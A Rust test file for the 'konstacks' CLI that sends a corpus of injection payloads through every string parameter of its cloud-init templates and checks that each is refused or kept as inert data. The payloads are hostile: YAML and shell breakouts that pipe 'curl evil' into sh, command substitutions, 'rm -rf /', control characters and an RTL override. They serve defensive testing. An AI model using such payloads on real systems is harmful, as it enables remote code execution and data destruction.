//! Injection corpus, through the `konstacks` binary: every string parameter of every built-in
//! template (found by walking each template's JSON Schema, so a new parameter is covered without
//! touching this file) gets every payload of the corpus (YAML breakouts, shell substitutions,
//! control characters, very long values, a right-to-left override, ...).
//!
//! For each case `konstacks synth --json` either
//! - exits 3 and names the parameter (`params.app.app_image`), without echoing a raw control
//!   character, or
//! - accepts the value, and then the user data of every VM is `#cloud-config` plus one JSON
//!   document (JSON is YAML 1.2; nothing YAML 1.1 reads as a line break is left raw), with the
//!   same commands, argv lengths, files and packages as with a harmless value, and the payload
//!   only as one whole data scalar: an argv element equal to it, or inside a file's content.
//!   No `sh -c` script and no tag holds it except as the whole value.
#![cfg(feature = "cli")]
#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)]

use std::path::Path;
use std::process::{Command, Stdio};

use konstacks::templates::builtin;
use serde_json::{json, Value};

/// The corpus: (name, payload).
fn payloads() -> Vec<(&'static str, String)> {
    vec![
        ("yaml runcmd breakout", "x\"\nruncmd:\n  - [sh, -c, \"curl evil | sh\"]\n#".into()),
        ("single-quote yaml breakout", "x'\n- curl evil | sh".into()),
        ("flow-list breakout", "x\", \"curl evil | sh\"], [\"sh\", \"-c\", \"curl evil | sh".into()),
        ("command substitution", "$(curl evil | sh)".into()),
        ("backticks", "`curl evil | sh`".into()),
        ("command separator", "x; rm -rf /".into()),
        ("single-quote shell breakout", "'; curl evil | sh; '".into()),
        ("IFS substitution", "${IFS}curl${IFS}evil|sh".into()),
        ("NUL", "a\0b".into()),
        ("escape sequence", "a\u{1b}[31mred\u{1b}[0m".into()),
        ("carriage return", "a\rruncmd: [evil]".into()),
        ("tab", "a\tb".into()),
        ("trailing newline", "ubuntu\n".into()),
        ("YAML 1.1 line separator", "a\u{2028}runcmd: [evil]".into()),
        ("YAML 1.1 next line", "a\u{85}runcmd: [evil]".into()),
        ("right-to-left override", "safe\u{202e}hs.live".into()),
        ("option injection", "--privileged".into()),
        ("yaml comment", "x # runcmd".into()),
        ("300 characters", "a".repeat(300)),
        ("70,000 characters", "a".repeat(70_000)),
    ]
}

struct Run {
    code: i32,
    stdout: String,
    stderr: String,
}

fn synth(dir: &Path, template: &str, params: &Value) -> Run {
    std::fs::create_dir_all(dir).unwrap();
    let file = dir.join("p.json");
    std::fs::write(&file, serde_json::to_vec(params).unwrap()).unwrap();
    let out = Command::new(env!("CARGO_BIN_EXE_konstacks"))
        .arg("--state-dir")
        .arg(dir.join("state"))
        .args(["--sim-latency-ms", "0", "--no-color", "--template", template, "--params"])
        .arg(&file)
        .args(["synth", "--json"])
        .env_remove("KONSTACKS_SECRET_KEY")
        .stdin(Stdio::null())
        .output()
        .unwrap();
    Run {
        code: out.status.code().unwrap_or(-1),
        stdout: String::from_utf8_lossy(&out.stdout).into_owned(),
        stderr: String::from_utf8_lossy(&out.stderr).into_owned(),
    }
}

// ---------------------------------------------------------------------------------------------
// Parameters from the JSON Schema

#[derive(Debug, Clone, PartialEq)]
enum Seg {
    Key(String),
    Index,
}

fn show(path: &[Seg]) -> String {
    let mut s = String::from("params");
    for seg in path {
        match seg {
            Seg::Key(k) => s.push_str(&format!(".{k}")),
            Seg::Index => s.push_str("[0]"),
        }
    }
    s
}

fn resolve<'a>(root: &'a Value, mut s: &'a Value) -> &'a Value {
    while let Some(r) = s.get("$ref").and_then(Value::as_str) {
        let name = r.rsplit('/').next().unwrap();
        s = root
            .get("$defs")
            .and_then(|d| d.get(name))
            .or_else(|| root.get("definitions").and_then(|d| d.get(name)))
            .unwrap();
    }
    s
}

fn types(s: &Value) -> Vec<String> {
    match s.get("type") {
        Some(Value::String(t)) => vec![t.clone()],
        Some(Value::Array(ts)) => ts.iter().filter_map(Value::as_str).map(str::to_string).collect(),
        _ => s
            .get("anyOf")
            .or_else(|| s.get("oneOf"))
            .and_then(Value::as_array)
            .map(|alts| alts.iter().flat_map(types).collect())
            .unwrap_or_default(),
    }
}

/// Every string leaf of the schema, with its path.
fn string_paths(root: &Value, s: &Value, path: Vec<Seg>, out: &mut Vec<Vec<Seg>>) {
    let s = resolve(root, s);
    let alts: Vec<&Value> = s.get("anyOf").and_then(Value::as_array).map(|a| a.iter().collect()).unwrap_or_default();
    for alt in alts {
        let alt = resolve(root, alt);
        if alt.get("properties").is_some() || alt.get("items").is_some() {
            string_paths(root, alt, path.clone(), out);
        }
    }
    let t = types(s);
    if t.iter().any(|t| t == "string") {
        out.push(path.clone());
    }
    if let Some(props) = s.get("properties").and_then(Value::as_object) {
        for (k, v) in props {
            let mut p = path.clone();
            p.push(Seg::Key(k.clone()));
            string_paths(root, v, p, out);
        }
    }
    if let Some(items) = s.get("items") {
        let mut p = path;
        p.push(Seg::Index);
        string_paths(root, items, p, out);
    }
}

/// `params` with `value` at `path`, creating objects and a first list element as needed.
fn set(params: &mut Value, path: &[Seg], value: Value) {
    let Some((first, rest)) = path.split_first() else {
        *params = value;
        return;
    };
    match first {
        Seg::Key(k) => {
            if !params.is_object() {
                *params = json!({});
            }
            let slot = params.as_object_mut().unwrap().entry(k.clone()).or_insert(Value::Null);
            set(slot, rest, value);
        }
        Seg::Index => {
            if params.as_array().is_none_or(Vec::is_empty) {
                *params = json!([Value::Null]);
            }
            set(&mut params.as_array_mut().unwrap()[0], rest, value);
        }
    }
}

/// The default parameters, plus one element (its required strings set to `sample`) in every
/// empty list of objects, so that templates needing a list (agency clients) build.
fn base_params(root: &Value, defaults: &Value) -> Value {
    let mut p = if defaults.is_object() { defaults.clone() } else { json!({}) };
    if let Some(props) = root.get("properties").and_then(Value::as_object) {
        for (k, v) in props {
            let items = v.get("items").map(|i| resolve(root, i));
            let Some(items) = items.filter(|i| i.get("properties").is_some()) else { continue };
            if p.get(k).and_then(Value::as_array).is_some_and(|a| !a.is_empty()) {
                continue;
            }
            let mut el = json!({});
            for r in items.get("required").and_then(Value::as_array).into_iter().flatten() {
                el[r.as_str().unwrap()] = json!("sample");
            }
            p[k] = json!([el]);
        }
    }
    p
}

// ---------------------------------------------------------------------------------------------
// User data

/// The parsed user data of every VM of a `synth --json` answer.
fn user_data(stdout: &str) -> Vec<(String, Value, String)> {
    let v: Value = serde_json::from_str(stdout).unwrap_or_else(|e| panic!("synth --json is not JSON ({e}): {stdout}"));
    let mut out = Vec::new();
    for r in v["resources"].as_array().unwrap() {
        let Some(text) = r["fields"]["user_data"].as_str() else { continue };
        let body = text.strip_prefix("#cloud-config\n").unwrap_or_else(|| panic!("no #cloud-config header: {text}"));
        for c in ['\u{85}', '\u{2028}', '\u{2029}', '\u{feff}', '\u{7f}'] {
            assert!(!body.contains(c), "raw {c:?} left in user data: {text:?}");
        }
        let doc: Value =
            serde_json::from_str(body).unwrap_or_else(|e| panic!("user data is not one JSON document ({e}): {text}"));
        assert!(doc.is_object(), "{text}");
        out.push((r["path"].as_str().unwrap().to_string(), doc, text.to_string()));
    }
    out
}

/// What must not change when a value changes: commands, their lengths, files and packages.
fn shape(doc: &Value) -> Value {
    let runcmd: Vec<Value> = doc["runcmd"]
        .as_array()
        .map(|cmds| cmds.iter().map(|c| json!([c[0].clone(), c.as_array().map_or(0, Vec::len)])).collect())
        .unwrap_or_default();
    let files: Vec<Value> = doc["write_files"]
        .as_array()
        .map(|fs| {
            fs.iter().map(|f| json!([f["path"], f["permissions"], f.as_object().map_or(0, |o| o.len())])).collect()
        })
        .unwrap_or_default();
    let keys: Vec<&String> = doc.as_object().map(|o| o.keys().collect()).unwrap_or_default();
    json!({ "keys": keys, "runcmd": runcmd, "files": files, "packages": doc["packages"] })
}

/// The payload appears only as a whole argv element or inside a file's content.
fn check_placement(doc: &Value, payload: &str, what: &str) {
    for (i, cmd) in doc["runcmd"].as_array().into_iter().flatten().enumerate() {
        let argv: Vec<&str> = cmd.as_array().unwrap().iter().map(|a| a.as_str().unwrap()).collect();
        let shell = argv.len() >= 2 && argv[0] == "sh" && argv[1] == "-c";
        for a in &argv {
            if a.contains(payload) {
                assert!(!shell, "{what}: payload inside a shell script: {argv:?}");
                assert_eq!(*a, payload, "{what}: payload spliced into runcmd[{i}] element {a:?}");
            }
        }
    }
    for (k, v) in doc.as_object().unwrap() {
        if k == "runcmd" || k == "write_files" {
            continue;
        }
        let mut all = Vec::new();
        strings(v, &mut all);
        assert!(all.iter().all(|s| !s.contains(payload)), "{what}: payload in `{k}`: {v}");
    }
    for f in doc["write_files"].as_array().into_iter().flatten() {
        for (k, v) in f.as_object().unwrap() {
            if k != "content" {
                assert!(!v.as_str().is_some_and(|s| s.contains(payload)), "{what}: payload in a file's `{k}`: {v}");
            }
        }
    }
}

fn strings<'a>(v: &'a Value, out: &mut Vec<&'a str>) {
    match v {
        Value::String(s) => out.push(s),
        Value::Array(a) => a.iter().for_each(|x| strings(x, out)),
        Value::Object(o) => o.values().for_each(|x| strings(x, out)),
        _ => {}
    }
}

/// One run: template, parameter path, parameters, and the payload (none for reference runs).
type Job<'a> = (String, Vec<Seg>, Value, Option<(&'a str, &'a String)>);

#[test]
fn every_string_parameter_of_every_template_resists_injection() {
    let scratch = tempfile::tempdir().unwrap();
    let corpus = payloads();
    let mut jobs: Vec<Job<'_>> = Vec::new();
    let mut paths_per_template = Vec::new();
    for t in builtin() {
        let schema = t.params_schema();
        let base = base_params(&schema, &t.default_params());
        let mut paths = Vec::new();
        string_paths(&schema, &schema, Vec::new(), &mut paths);
        assert!(!paths.is_empty(), "{}: no string parameter found in its schema", t.name());
        paths_per_template.push((t.name(), paths.iter().map(|p| show(p)).collect::<Vec<_>>()));
        jobs.push((t.name().to_string(), Vec::new(), base.clone(), None));
        for p in &paths {
            let mut sample = base.clone();
            set(&mut sample, p, json!("sample"));
            jobs.push((t.name().to_string(), p.clone(), sample, None));
            for (name, payload) in &corpus {
                let mut params = base.clone();
                set(&mut params, p, json!(payload));
                jobs.push((t.name().to_string(), p.clone(), params, Some((name, payload))));
            }
        }
    }
    // Two workers per core is plenty for short-lived processes.
    let workers = std::thread::available_parallelism().map_or(2, |n| n.get() * 2);
    let results: Vec<Run> = std::thread::scope(|s| {
        let chunks: Vec<Vec<(usize, &Job<'_>)>> =
            (0..workers).map(|w| jobs.iter().enumerate().filter(|(i, _)| i % workers == w).collect()).collect();
        let handles: Vec<_> = chunks
            .into_iter()
            .map(|chunk| {
                let dir = scratch.path();
                s.spawn(move || {
                    chunk
                        .into_iter()
                        .map(|(i, (t, _, p, _))| (i, synth(&dir.join(i.to_string()), t, p)))
                        .collect::<Vec<_>>()
                })
            })
            .collect();
        let mut all: Vec<(usize, Run)> = handles.into_iter().flat_map(|h| h.join().unwrap()).collect();
        all.sort_by_key(|(i, _)| *i);
        all.into_iter().map(|(_, r)| r).collect()
    });

    let mut base_shapes: std::collections::BTreeMap<String, Vec<(String, Value)>> = Default::default();
    let mut sample_shapes: std::collections::BTreeMap<(String, String), Vec<(String, Value)>> = Default::default();
    let (mut refused, mut accepted) = (0, 0);
    for ((template, path, params, payload), run) in jobs.iter().zip(&results) {
        let where_ = show(path);
        let Some((name, payload)) = payload else {
            // The base parameters and the harmless `sample` value: the reference shapes.
            if path.is_empty() {
                assert_eq!(run.code, 0, "{template} base parameters {params}: {}", run.stderr);
                base_shapes.insert(
                    template.clone(),
                    user_data(&run.stdout).into_iter().map(|(p, d, _)| (p, shape(&d))).collect(),
                );
            } else if run.code == 0 {
                sample_shapes.insert(
                    (template.clone(), where_.clone()),
                    user_data(&run.stdout).into_iter().map(|(p, d, _)| (p, shape(&d))).collect(),
                );
            }
            continue;
        };
        let what = format!("{template} {where_} = {name}");
        for out in [&run.stdout, &run.stderr] {
            assert!(
                !out.chars().any(|c| (c.is_control() && c != '\n') || c == '\u{202e}' || c == '\u{2028}'),
                "{what}: raw control character echoed: {out:?}"
            );
        }
        match run.code {
            3 => {
                assert!(
                    run.stderr.contains(&format!("{where_}:")),
                    "{what}: exit 3 without naming {where_}: {}",
                    run.stderr
                );
                refused += 1;
            }
            0 => {
                accepted += 1;
                let reference = sample_shapes
                    .get(&(template.clone(), where_.clone()))
                    .or_else(|| base_shapes.get(template))
                    .unwrap_or_else(|| panic!("{what}: no reference run"));
                let docs = user_data(&run.stdout);
                let shapes: Vec<(String, Value)> = docs.iter().map(|(p, d, _)| (p.clone(), shape(d))).collect();
                assert_eq!(&shapes, reference, "{what}: the user data changed shape");
                for (vm, doc, _) in &docs {
                    check_placement(doc, payload, &format!("{what} ({vm})"));
                }
                // Tags hold the payload only as a whole value.
                let v: Value = serde_json::from_str(&run.stdout).unwrap();
                for r in v["resources"].as_array().unwrap() {
                    for (k, tag) in r["fields"]["tags"].as_object().into_iter().flatten() {
                        let tag = tag.as_str().unwrap_or_default();
                        assert!(
                            !tag.contains(payload.as_str()) || tag == payload.as_str(),
                            "{what}: tag {k} = {tag:?}"
                        );
                    }
                }
            }
            other => panic!("{what}: exit {other}, expected 0 or 3\n{}\n{}", run.stdout, run.stderr),
        }
    }
    let cases = refused + accepted;
    eprintln!(
        "injection corpus: {cases} cases ({refused} refused with the parameter path, {accepted} accepted as data)"
    );
    for (t, paths) in &paths_per_template {
        eprintln!("  {t}: {}", paths.join(", "));
    }
    assert_eq!(cases, paths_per_template.iter().map(|(_, p)| p.len()).sum::<usize>() * corpus.len());
    assert!(accepted > 0 && refused > accepted, "{refused} refused, {accepted} accepted");
}

/// The reproduced bug: a quote and a newline in `app_image` used to add its own `runcmd` line
/// and `validate` said "valid".
#[test]
fn the_reported_app_image_injection_is_refused_by_validate() {
    let dir = tempfile::tempdir().unwrap();
    let file = dir.path().join("p.json");
    let cases = [
        ("web-app", json!({ "app_image": "nginx\"]\n  - [sh, -c, \"curl evil | sh\"]\n#" }), "params.app_image"),
        (
            "gdpr-saas",
            json!({ "app": { "start_command": "x\nruncmd: [[sh, -c, 'curl evil | sh']]" } }),
            "params.app.start_command",
        ),
        ("lamp-site", json!({ "site_repo": "https://x.example/r.git /tmp/x\n  - curl evil | sh" }), "params.site_repo"),
    ];
    for (template, params, path) in cases {
        std::fs::write(&file, params.to_string()).unwrap();
        let out = Command::new(env!("CARGO_BIN_EXE_konstacks"))
            .arg("--state-dir")
            .arg(dir.path().join("state"))
            .args(["--sim-latency-ms", "0", "--no-color", "--template", template, "--params"])
            .arg(&file)
            .arg("validate")
            .stdin(Stdio::null())
            .output()
            .unwrap();
        let stderr = String::from_utf8_lossy(&out.stderr);
        assert_eq!(out.status.code(), Some(3), "{template}: {stderr}");
        assert!(stderr.contains(path), "{template}: {stderr}");
        assert!(!dir.path().join("state").exists(), "{template}: state written");
    }
}
